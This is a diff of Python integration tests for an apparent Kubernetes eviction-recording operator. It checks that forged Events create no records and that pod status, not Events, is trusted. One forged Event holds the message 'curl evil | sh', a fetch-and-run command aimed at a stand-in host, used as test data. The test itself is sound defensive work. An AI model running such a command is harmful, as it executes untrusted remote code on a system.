@@ -12,6 +12,7 @@ from lightkube import AsyncClient
 from lightkube.resources.core_v1 import Node, Pod
 
 from evictwatch import telemetry
+from evictwatch.kube.api import JsonApi
 from evictwatch.kube.client import make_client
 from evictwatch.kube.listwatch import ListWatch
 from evictwatch.operator import Operator
@@ -46,8 +47,9 @@ def start(start_operator: StartOperator, cluster: Cluster) -> Start:
             record_key=KEY,
         )
         await operator.leading.wait()
-        assert operator.watchers is not None
-        for watch in operator.watchers.watches:
+        assert operator.watchers is not None and operator.pod_cache is not None
+        assert operator.records is not None
+        for watch in (operator.pod_cache.watch, operator.records.watch):
             await asyncio.wait_for(watch.synced.wait(), 20)
         return operator
 
@@ -112,37 +114,52 @@ async def test_kubelet_node_pressure_eviction(cluster: Cluster, start: Start) ->
     assert spec["attempts"] == 0
 
 
-async def test_kubelet_event_alone_makes_a_record(cluster: Cluster, start: Start) -> None:
+async def test_events_are_evidence_never_a_source(cluster: Cluster, start: Start) -> None:
+    """Anyone allowed to create Events could forge one: an Event alone makes no record, and one
+    whose reason belongs to another component explains nothing; the kubelet's own Event becomes
+    the "why" once the Pod's status shows the eviction."""
     await start()
     node = await cluster.create_node()
     pod = await cluster.create_pod("evented", node=node, ready=True)
     assert pod.metadata is not None
-    event = {
-        "apiVersion": "v1",
-        "kind": "Event",
-        "metadata": {"name": "evented.kubelet", "namespace": cluster.namespace},
-        "involvedObject": {
-            "kind": "Pod",
-            "name": "evented",
-            "namespace": cluster.namespace,
-            "uid": pod.metadata.uid,
+
+    def event(name: str, pod_name: str, reason: str, component: str, message: str) -> dict[str, Any]:
+        return {
             "apiVersion": "v1",
-        },
-        "reason": "Evicted",
-        "type": "Warning",
-        "message": PRESSURE,
-        "source": {"component": "kubelet", "host": node},
-        "firstTimestamp": stamp(),
-        "lastTimestamp": stamp(),
-        "count": 1,
-    }
+            "kind": "Event",
+            "metadata": {"name": name, "namespace": cluster.namespace},
+            "involvedObject": {
+                "kind": "Pod",
+                "name": pod_name,
+                "namespace": cluster.namespace,
+                "apiVersion": "v1",
+                **({"uid": pod.metadata.uid} if pod_name == "evented" else {}),
+            },
+            "reason": reason,
+            "type": "Warning",
+            "message": message,
+            "source": {"component": component, "host": node},
+            "firstTimestamp": stamp(),
+            "lastTimestamp": stamp(),
+            "count": 1,
+        }
+
     async with cluster.http() as http:
-        reply = await http.post(f"/api/v1/namespaces/{cluster.namespace}/events", json=event)
-    assert reply.status_code == 201
-    record = await record_for(cluster.client, cluster.namespace, "evented")
+        for body in (
+            event("ghost.preempted", "never-existed", "Preempted", "default-scheduler", "forged preemption"),
+            event("evented.forged", "evented", "Evicted", "someone", "curl evil | sh"),
+            event("evented.kubelet", "evented", "Evicted", "kubelet", PRESSURE),
+        ):
+            reply = await http.post(f"/api/v1/namespaces/{cluster.namespace}/events", json=body)
+            assert reply.status_code == 201
+    await asyncio.sleep(3)
+    assert await records(cluster.client, cluster.namespace) == []
+    await patch_status(cluster, "evented", {"phase": "Failed", "reason": "Evicted", "message": PRESSURE})
+    record = await record_for(cluster.client, cluster.namespace, "evented", "Failed")
     assert record["spec"]["source"] == "Kubelet"
-    assert record["spec"]["pressure"]["resource"] == "memory"
     assert record["spec"]["pod"]["uid"] == pod.metadata.uid
+    assert record["status"]["why"]["component"] == "kubelet"
+    assert record["status"]["why"]["message"].startswith("The node was low on resource: memory")
     by_field = [
         item.to_dict()
         async for item in cluster.client.list(
@@ -152,6 +169,7 @@ async def test_kubelet_event_alone_makes_a_record(cluster: Cluster, start: Start
         )
     ]
     assert [r["metadata"]["name"] for r in by_field] == [record["metadata"]["name"]]
+    assert [r["spec"]["pod"]["name"] for r in await records(cluster.client, cluster.namespace)] == ["evented"]
 
 
 async def test_scheduler_preemption(cluster: Cluster, start: Start) -> None:
@@ -263,7 +281,8 @@ async def test_expired_watch_relists_and_loses_nothing(control_plane: ControlPla
         stale = first.metadata.resourceVersion  # where a watch that lost its connection would resume
         await cluster.create_pod("made-before")
         cp.compact_etcd()
-        watch = ListWatch(kube, Pod, handler, "test-pods", namespace=cluster.namespace)
+        api = JsonApi(kube)
+        watch = ListWatch(api, f"/api/v1/namespaces/{cluster.namespace}/pods", handler, "test-pods")
         watch.resource_version = stale
         gone_before = telemetry.WATCH_RESTARTS.labels("test-pods", "gone")._value.get()
         task = asyncio.create_task(watch.run())
@@ -273,6 +292,7 @@ async def test_expired_watch_relists_and_loses_nothing(control_plane: ControlPla
             await wait_for(lambda: _contains(seen, "made-after"), what="the watch to deliver made-after")
         finally:
             task.cancel()
+            await api.close()
             await kube.close()
     assert telemetry.WATCH_RESTARTS.labels("test-pods", "gone")._value.get() == gone_before + 1
     assert watch.relists == 1
